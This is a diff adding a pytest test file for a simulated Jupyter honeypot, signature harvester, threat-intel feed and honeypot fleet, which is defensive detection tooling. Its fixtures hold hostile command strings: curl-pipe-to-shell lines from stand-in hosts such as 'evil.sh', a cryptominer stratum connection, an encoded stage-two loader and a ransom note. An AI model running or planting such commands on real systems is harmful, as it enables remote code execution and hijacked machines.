@@ -1,0 +1,244 @@
+"""Tests for honeypots, harvesting, threat intel, and the fleet."""
+
+import pytest
+
+from repro.honeypot import (
+    DecoyJupyterServer,
+    HoneypotFleet,
+    Indicator,
+    SignatureHarvester,
+    ThreatIntelFeed,
+)
+from repro.honeypot.decoy import InteractionRecord
+from repro.monitor.signatures import Signature, SignatureEngine
+from repro.simnet import Network
+from repro.taxonomy.oscrp import Avenue
+from repro.wire.http import HttpRequest, parse_response
+
+
+def make_decoy(interaction="high"):
+    net = Network(default_latency=0.001)
+    hp_host = net.add_host("edge-hp", "172.16.0.5")
+    attacker = net.add_host("attacker", "203.0.113.66")
+    decoy = DecoyJupyterServer(net, hp_host, name="edge-1", interaction=interaction)
+    return net, decoy, hp_host, attacker
+
+
+def http_get(net, src, dst, port, path, body=b"", method="GET"):
+    conn = src.connect(dst, port)
+    responses = []
+    buf = b""
+
+    def on_data(data):
+        nonlocal buf
+        buf += data
+        resp, rest = parse_response(buf)
+        if resp:
+            responses.append(resp)
+            buf = rest
+
+    conn.on_data_client = on_data
+    conn.send_to_server(HttpRequest(method, path, {"Host": dst.ip}, body).encode())
+    net.run(1.0)
+    return responses[0] if responses else None
+
+
+class TestDecoy:
+    def test_low_interaction_answers_fingerprint(self):
+        net, decoy, hp_host, attacker = make_decoy("low")
+        resp = http_get(net, attacker, hp_host, 8888, "/api")
+        assert resp is not None and resp.status == 200
+        assert b"version" in resp.body
+        assert decoy.records and decoy.records[0].kind == "http"
+        assert decoy.attacker_ips() == ["203.0.113.66"]
+
+    def test_low_interaction_404s_everything_else(self):
+        net, decoy, hp_host, attacker = make_decoy("low")
+        resp = http_get(net, attacker, hp_host, 8888, "/api/contents/")
+        assert resp.status == 404
+
+    def test_high_interaction_serves_bait(self):
+        net, decoy, hp_host, attacker = make_decoy("high")
+        resp = http_get(net, attacker, hp_host, 8888, "/api/contents/")
+        assert resp.status == 200  # insecure demo config: open access
+        assert b"analysis" in resp.body or b"data" in resp.body
+
+    def test_high_interaction_records_http(self):
+        net, decoy, hp_host, attacker = make_decoy("high")
+        http_get(net, attacker, hp_host, 8888, "/api/contents/data/clinical_trial_results.csv")
+        paths = [r.content for r in decoy.records if r.kind == "http"]
+        assert any("clinical_trial_results" in p for p in paths)
+
+    def test_high_interaction_records_cells(self):
+        net, decoy, hp_host, attacker = make_decoy("high")
+        import json
+
+        resp = http_get(net, attacker, hp_host, 8888, "/api/kernels", method="POST")
+        kid = json.loads(resp.body)["id"]
+        # Drive a cell through the kernel via the recorded hook path.
+        kernel = decoy.server.kernels[kid]
+        from repro.messaging import Session
+
+        kernel.handle(Session(decoy.config.session_key).execute_request(
+            "import os; os.system('curl evil.sh | sh')"))
+        assert any("curl evil.sh" in c for c in decoy.cells_observed())
+
+    def test_invalid_interaction_mode(self):
+        net = Network()
+        host = net.add_host("h", "1.2.3.4")
+        with pytest.raises(ValueError):
+            DecoyJupyterServer(net, host, interaction="medium")
+
+
+class TestHarvester:
+    def rec(self, content, kind="cell", hp="edge-1", ts=0.0):
+        return InteractionRecord(ts=ts, honeypot=hp, source_ip="203.0.113.66",
+                                 kind=kind, content=content)
+
+    def test_hostile_structure_single_observation(self):
+        h = SignatureHarvester()
+        sigs = h.harvest([self.rec("s.send('stratum+tcp://pool.evil:3333')")])
+        assert len(sigs) == 1
+        assert sigs[0].avenue == Avenue.CRYPTOMINING
+        assert sigs[0].source == "honeypot:edge-1"
+
+    def test_recurring_lines_harvested(self):
+        h = SignatureHarvester(min_recurrence=2)
+        payload = "payload_stage2 = decode_and_run('QUJDREVGR0g')"
+        sigs = h.harvest([self.rec(payload), self.rec(payload, ts=5.0)])
+        assert any("recurred" in s.description for s in sigs)
+
+    def test_single_benignish_line_not_harvested(self):
+        h = SignatureHarvester(min_recurrence=2)
+        assert h.harvest([self.rec("x = load_data('file.csv')")]) == []
+
+    def test_benign_calibration_veto(self):
+        h = SignatureHarvester(min_recurrence=1)
+        # 'import hashlib' appears in the benign corpus — must not be signatured.
+        sigs = h.harvest([self.rec("import hashlib"), self.rec("import hashlib")])
+        assert all("hashlib" not in s.pattern for s in sigs)
+
+    def test_harvested_signatures_actually_match(self):
+        h = SignatureHarvester()
+        sigs = h.harvest([self.rec("os.system('curl http://evil/m.sh | sh')", kind="terminal")])
+        assert sigs
+        assert sigs[0].matches("curl http://evil/m.sh | sh")
+
+    def test_ransom_note_harvested(self):
+        h = SignatureHarvester()
+        sigs = h.harvest([self.rec("note = 'Your files have been encrypted. pay 1 btc'")])
+        assert any(s.avenue == Avenue.RANSOMWARE for s in sigs)
+
+
+class TestThreatIntel:
+    def make_indicator(self, iid="ind-1", pattern="evil_pattern"):
+        return Indicator(indicator_id=iid, indicator_type="content-signature",
+                         pattern=pattern, description="test", confidence=0.9,
+                         source="honeypot:edge-1", created=100.0, avenue="crypto-mining")
+
+    def test_publish_dedup(self):
+        feed = ThreatIntelFeed()
+        assert feed.publish(self.make_indicator())
+        assert not feed.publish(self.make_indicator())
+        assert feed.published_count == 1
+
+    def test_subscribe_replay(self):
+        feed = ThreatIntelFeed()
+        feed.publish(self.make_indicator())
+        seen = []
+        feed.subscribe(seen.append, replay=True)
+        assert len(seen) == 1
+
+    def test_engine_subscription_installs_rules(self):
+        feed = ThreatIntelFeed()
+        engine = SignatureEngine(signatures=[])
+        feed.subscribe_engine(engine)
+        feed.publish(self.make_indicator())
+        assert len(engine.signatures) == 1
+        assert engine.signatures[0].source == "intel:honeypot:edge-1"
+        assert engine.signatures[0].avenue == Avenue.CRYPTOMINING
+
+    def test_low_confidence_filtered(self):
+        feed = ThreatIntelFeed()
+        engine = SignatureEngine(signatures=[])
+        feed.subscribe_engine(engine, min_confidence=0.95)
+        feed.publish(self.make_indicator())
+        assert engine.signatures == []
+
+    def test_jsonl_roundtrip(self):
+        feed = ThreatIntelFeed()
+        feed.publish(self.make_indicator("ind-a", "p1"))
+        feed.publish(self.make_indicator("ind-b", "p2"))
+        restored = ThreatIntelFeed.import_jsonl(feed.export_jsonl())
+        assert set(restored.indicators) == {"ind-a", "ind-b"}
+
+    def test_expiry(self):
+        feed = ThreatIntelFeed()
+        ind = self.make_indicator()
+        ind = Indicator(**{**ind.__dict__, "valid_until": 200.0})
+        feed.publish(ind)
+        assert feed.active(now=150.0)
+        assert not feed.active(now=300.0)
+
+    def test_signature_indicator_roundtrip(self):
+        sig = Signature("SIG-X", "desc", "jupyter-code", r"bad_stuff",
+                        avenue=Avenue.RANSOMWARE, source="honeypot:e1")
+        ind = Indicator.from_signature(sig, created=5.0)
+        back = ind.to_signature()
+        assert back.pattern == sig.pattern
+        assert back.avenue == Avenue.RANSOMWARE
+
+
+class TestFleet:
+    def test_deploy_and_harvest_pipeline(self):
+        net = Network(default_latency=0.001)
+        attacker = net.add_host("attacker", "203.0.113.66")
+        fleet = HoneypotFleet(net, harvest_interval=30.0)
+        decoy = fleet.deploy("edge-1", "172.16.0.5")
+        # Attacker hits the decoy with a miner payload via a kernel cell.
+        decoy.records.append(InteractionRecord(
+            ts=1.0, honeypot="edge-1", source_ip=attacker.ip, kind="cell",
+            content="s.send('stratum+tcp://pool.evil:3333')"))
+        report = fleet.harvest_now()
+        assert report.new_signatures == 1
+        assert fleet.feed.indicators
+
+    def test_harvest_is_idempotent(self):
+        net = Network()
+        fleet = HoneypotFleet(net)
+        decoy = fleet.deploy("edge-1", "172.16.0.5")
+        decoy.records.append(InteractionRecord(
+            ts=1.0, honeypot="edge-1", source_ip="1.2.3.4", kind="cell",
+            content="s.send('stratum+tcp://pool.evil:3333')"))
+        fleet.harvest_now()
+        report2 = fleet.harvest_now()
+        assert report2.new_signatures == 0
+
+    def test_scheduled_harvesting(self):
+        net = Network()
+        fleet = HoneypotFleet(net, harvest_interval=10.0)
+        decoy = fleet.deploy("edge-1", "172.16.0.5")
+        decoy.records.append(InteractionRecord(
+            ts=0.5, honeypot="edge-1", source_ip="1.2.3.4", kind="cell",
+            content="s.send('stratum+tcp://pool.evil:3333')"))
+        fleet.schedule_harvesting(horizon=35.0)
+        net.run(35.0)
+        assert len(fleet.reports) == 3
+        assert fleet.feed.indicators
+
+    def test_lead_time_positive_when_honeypot_first(self):
+        net = Network()
+        fleet = HoneypotFleet(net)
+        decoy = fleet.deploy("edge-1", "172.16.0.5")
+        decoy.records.append(InteractionRecord(
+            ts=1.0, honeypot="edge-1", source_ip="1.2.3.4", kind="cell",
+            content="s.send('stratum+tcp://pool.evil:3333')"))
+        net.loop.clock.advance(5.0)
+        fleet.harvest_now()  # published at t=5
+        lead = fleet.lead_time("stratum", production_hit_ts=300.0)
+        assert lead == pytest.approx(295.0)
+
+    def test_lead_time_none_when_unseen(self):
+        net = Network()
+        fleet = HoneypotFleet(net)
+        assert fleet.lead_time("neverseen", 100.0) is None
